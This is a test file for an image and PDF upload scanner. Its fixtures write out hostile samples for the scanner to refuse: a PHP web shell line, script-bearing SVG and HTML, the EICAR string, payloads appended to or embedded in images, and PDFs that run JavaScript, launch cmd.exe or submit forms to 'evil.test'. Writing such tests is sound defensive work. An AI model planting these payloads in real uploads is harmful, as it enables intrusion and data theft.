import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import sharp from 'sharp';
import { hugePng, joined, packed, pdf, withChunk, withSegment, zip } from '../../../test/factories/files.ts';
import { scanBytes } from './built-in.ts';

const flat = sharp({ create: { width: 64, height: 48, channels: 3, background: '#1d4baf' } });
const jpeg = await flat.clone().jpeg().toBuffer();
const progressive = await flat
  .clone()
  .jpeg({ progressive: true })
  .withExif({ IFD0: { Copyright: 'Ostona' } })
  .toBuffer();
const png = await flat.clone().png().toBuffer();
const webp = await flat.clone().webp().toBuffer();
const lossless = await flat.clone().webp({ lossless: true }).toBuffer();
const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const html = '<html><script>alert(1)</script></html>';
const php = '<?php system($_GET["c"]); ?>';
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
const action = (kind: string, rest = '') => ({ catalog: `/OpenAction << /Type /Action /S /${kind} ${rest} >>` });

const resultOf = (bytes: Uint8Array): string => {
  const result = scanBytes(bytes);
  return result.kind === 'clean' ? `${result.type} ${result.width}x${result.height}` : result.why;
};

const good: [string, Uint8Array, string][] = [
  ['a JPEG', jpeg, 'jpeg 64x48'],
  ['a progressive JPEG with metadata', progressive, 'jpeg 64x48'],
  ['a JPEG with a preview behind it, as cameras leave one', joined(jpeg, jpeg), 'jpeg 64x48'],
  ['a JPEG with zeros behind it', joined(jpeg, Buffer.alloc(512)), 'jpeg 64x48'],
  [
    'a JPEG with a short film behind it, as phones leave one',
    joined(jpeg, '\0\0\0\x18ftypmp42', Buffer.alloc(90)),
    'jpeg 64x48',
  ],
  [
    'a JPEG with an XMP note',
    withSegment(jpeg, 0xe1, 'http://ns.adobe.com/xap/1.0/\0<?xpacket begin=""?><x:xmpmeta/>'),
    'jpeg 64x48',
  ],
  ['a PNG', png, 'png 64x48'],
  ['a PNG with a note', withChunk(png, 'tEXt', 'Title\0Uy'), 'png 64x48'],
  ['a WebP', webp, 'webp 64x48'],
  ['a lossless WebP', lossless, 'webp 64x48'],
  ['a PDF', pdf(), 'pdf 0x0'],
  ['a PDF that opens at a page', pdf({ catalog: '/OpenAction [3 0 R /Fit]' }), 'pdf 0x0'],
  ['a PDF with a link', pdf({ objects: '5 0 obj\n<< /S /URI /URI (https://ostona.test) >>\nendobj\n' }), 'pdf 0x0'],
  ['a PDF with packed objects', pdf({ objects: packed('4 0 << /Type /Page >>') }), 'pdf 0x0'],
  ['a PDF with a packed list of filters', pdf({ objects: packed('4 0 << >>', '/Filter [/FlateDecode]') }), 'pdf 0x0'],
  [
    'a PDF with a note about itself',
    pdf({ objects: '6 0 obj\n<< /Type /Metadata >>\nstream\n<?xpacket?>\nendstream\nendobj\n' }),
    'pdf 0x0',
  ],
];

const bad: [string, Uint8Array | string, string][] = [
  ['nothing', '', 'type'],
  ['three bytes', '\xff\xd8\xff', 'broken'],
  ['an SVG', svg, 'type'],
  ['an SVG behind an XML head', `<?xml version="1.0"?>${svg}`, 'type'],
  ['a page', html, 'type'],
  ['a script', php, 'type'],
  ['a GIF', 'GIF89a\x01\0\x01\0', 'type'],
  ['a GIF that is a page', `GIF89a${html}`, 'type'],
  ['a BMP', 'BM\x46\0\0\0', 'type'],
  ['a TIFF', 'II*\0\x08\0\0\0', 'type'],
  ['a HEIC', '\0\0\0\x18ftypheic', 'type'],
  ['an AVIF', '\0\0\0\x18ftypavif', 'type'],
  ['a program for Windows', 'MZ\x90\0\x03', 'type'],
  ['a program for Linux', '\x7fELF\x02\x01', 'type'],
  ['an archive', zip, 'type'],
  ['a Word document', joined(zip, 'word/document.xml'), 'type'],
  ['an old Word document', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'type'],
  ['EICAR', eicar, 'dangerous'],
  ['EICAR behind a JPEG', joined(jpeg, eicar), 'dangerous'],
  ['EICAR inside a PDF', pdf({ objects: eicar }), 'dangerous'],
  ['a JPEG cut in half', jpeg.subarray(0, jpeg.length / 2), 'broken'],
  ['a JPEG without its end', jpeg.subarray(0, -2), 'broken'],
  ['a JPEG with something before it', joined('x', jpeg), 'type'],
  ['a JPEG of random bytes', joined('\xff\xd8\xff', Buffer.alloc(500, 0x41)), 'broken'],
  ['a JPEG whose segment is longer than the file', joined('\xff\xd8\xff\xe0\xff\xff', 'x'), 'broken'],
  ['an archive behind a JPEG', joined(jpeg, zip), 'dangerous'],
  ['a page behind a JPEG', joined(jpeg, html), 'dangerous'],
  ['a script behind a JPEG', joined(jpeg, php), 'dangerous'],
  ['a document behind a JPEG', joined(jpeg, pdf()), 'dangerous'],
  ['a program behind a JPEG', joined(jpeg, 'MZ\x90\0'), 'dangerous'],
  ['a shell script behind a JPEG', joined(jpeg, '#!/bin/sh\nid'), 'dangerous'],
  ['a packed file behind a JPEG', joined(jpeg, '\x1f\x8b\x08\0'), 'dangerous'],
  ['an archive far behind a JPEG', joined(jpeg, Buffer.alloc(9_000), zip), 'dangerous'],
  ['a script in a comment of a JPEG', withSegment(jpeg, 0xfe, php), 'dangerous'],
  ['a page in the metadata of a JPEG', withSegment(jpeg, 0xe1, html), 'dangerous'],
  ['an archive in the metadata of a JPEG', withSegment(jpeg, 0xe2, zip), 'dangerous'],
  ['a PNG cut in half', png.subarray(0, png.length / 2), 'broken'],
  ['a PNG without a size', joined('\x89PNG\r\n\x1a\n', '\0\0\0\0IEND\0\0\0\0'), 'broken'],
  ['a PNG of no size', hugePng(0, 5), 'broken'],
  ['an archive behind a PNG', joined(png, zip), 'dangerous'],
  ['a page behind a PNG', joined(png, html), 'dangerous'],
  ['a script in a note of a PNG', withChunk(png, 'tEXt', `Comment\0${php}`), 'dangerous'],
  ['an archive in a chunk of a PNG', withChunk(png, 'zzZz', zip), 'dangerous'],
  ['a WebP cut in half', webp.subarray(0, webp.length / 2), 'broken'],
  ['a WebP without a picture', joined('RIFF', Buffer.from([4, 0, 0, 0]), 'WEBP'), 'broken'],
  ['an archive behind a WebP', joined(webp, zip), 'dangerous'],
  ['a film in the dress of a WebP', joined('RIFF\x10\0\0\0AVI LIST'), 'type'],
  ['a PDF without an end', pdf().subarray(0, -8), 'broken'],
  ['half a PDF', pdf().subarray(0, 100), 'broken'],
  ['a PDF with something before it', joined('x', pdf()), 'type'],
  ['an archive behind a PDF', joined(pdf(), zip), 'dangerous'],
  ['a page behind a PDF', joined(pdf(), html), 'dangerous'],
  [
    'an archive inside a PDF with the end behind it',
    joined(pdf().subarray(0, 60), zip, pdf().subarray(60)),
    'dangerous',
  ],
  ['a page inside a PDF', pdf({ objects: html }), 'dangerous'],
  ['a PDF with JavaScript', pdf(action('JavaScript', '/JS (app.alert(1))')), 'dangerous'],
  ['a PDF with JavaScript in codes', pdf(action('#4aavaScript', '/#4aS (x)')), 'dangerous'],
  ['a PDF with JavaScript of another document', pdf({ objects: '5 0 obj\n<< /JS 6 0 R >>\nendobj\n' }), 'dangerous'],
  ['a PDF that starts a program', pdf(action('Launch', '/F (cmd.exe)')), 'dangerous'],
  ['a PDF that sends a form away', pdf(action('SubmitForm', '/F (https://evil.test)')), 'dangerous'],
  ['a PDF that opens another inside', pdf(action('GoToE')), 'dangerous'],
  ['a PDF with a file inside', pdf({ catalog: '/Names << /EmbeddedFiles 5 0 R >>' }), 'dangerous'],
  ['a PDF with a film inside', pdf({ objects: '5 0 obj\n<< /Subtype /RichMedia >>\nendobj\n' }), 'dangerous'],
  ['a PDF with an XFA form', pdf({ catalog: '/AcroForm << /XFA 5 0 R >>' }), 'dangerous'],
  ['a PDF with a password', pdf({ trailer: '/Encrypt 7 0 R' }), 'locked'],
  ['a PDF with packed JavaScript', pdf({ objects: packed('4 0 << /S /JavaScript /JS (x) >>') }), 'dangerous'],
  ['a PDF with packed JavaScript in codes', pdf({ objects: packed('4 0 << /S /Java#53cript >>') }), 'dangerous'],
  ['a PDF that hides how it is packed', pdf({ objects: packed('4 0 << >>', '/Filter /#46lateDecode') }), 'dangerous'],
  ['a PDF that packs in an unusual way', pdf({ objects: packed('3430', '/Filter /ASCIIHexDecode') }), 'dangerous'],
  [
    'a PDF that packs twice',
    pdf({ objects: packed(deflateSync('4 0'), '/Filter [/FlateDecode /FlateDecode]') }),
    'dangerous',
  ],
  ['a PDF whose packing is told elsewhere', pdf({ objects: packed('x', '/Filter 9 0 R') }), 'dangerous'],
  [
    'a PDF that packs with predictions',
    pdf({ objects: packed('4 0', '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>') }),
    'dangerous',
  ],
  [
    'a PDF whose packed part is damaged',
    pdf({ objects: packed('4 0').replace('stream\n', 'stream\nzz') }),
    'dangerous',
  ],
  ['a PDF that unpacks to a hundred megabytes', pdf({ objects: packed(Buffer.alloc(100_000_000, 32)) }), 'dangerous'],
];

for (const [name, bytes, what] of good) test(`O27 ${name} is taken`, () => assert.equal(resultOf(bytes), what));
for (const [name, bytes, what] of bad)
  test(`O27 ${name} is refused: ${what}`, () => assert.equal(resultOf(joined(bytes)), what));

test('O27 the size of a bomb is told before it is unpacked', () => {
  assert.equal(resultOf(hugePng(60_000, 60_000)), 'png 60000x60000');
});

test('files of any bytes, and good files with any change, get an answer and never a fault', () => {
  const base = [jpeg, progressive, png, webp, pdf({ objects: packed('4 0 << >>') })];
  fc.assert(
    fc.property(
      fc.constantFrom(...base),
      fc.array(fc.tuple(fc.nat(), fc.uint8Array({ minLength: 1, maxLength: 8 })), { maxLength: 6 }),
      fc.double({ min: 0, max: 1, noNaN: true }),
      (file, changes, fraction) => {
        const changed = Buffer.from(file.subarray(0, Math.ceil(file.length * fraction)));
        for (const [at, bytes] of changes)
          if (changed.length > 0) changed.set(bytes.subarray(0, 1), at % changed.length);
        scanBytes(changed);
      },
    ),
    { numRuns: 2_000 },
  );
});

test('a document made to take for ever is judged in moments', () => {
  const long = [
    joined('%PDF-1.7\n', 'stream\n'.repeat(500_000), 'startxref\n9\n%%EOF'),
    joined('%PDF-1.7\n', '/ObjStm '.repeat(500_000), 'startxref\n9\n%%EOF'),
    joined('%PDF-1.7\n', '1 0 obj <</ObjStm '.repeat(200_000), 'stream\nstartxref\n9\n%%EOF'),
    joined('%PDF-1.7\n', '/#'.repeat(1_000_000), 'startxref\n9\n%%EOF'),
    joined('%PDF-1.7\n', `/${'a#'.repeat(1_000_000)}`, 'startxref\n9\n%%EOF'),
    joined('\xff\xd8', '\xff\xe0\0\x02'.repeat(1_000_000)),
    joined('\xff\xd8\xff\xda\0\x02', '\xff\0'.repeat(2_000_000)),
  ];
  for (const bytes of long) {
    const began = performance.now();
    scanBytes(bytes);
    assert.ok(performance.now() - began < 3_000, bytes.subarray(0, 20).toString('latin1'));
  }
});
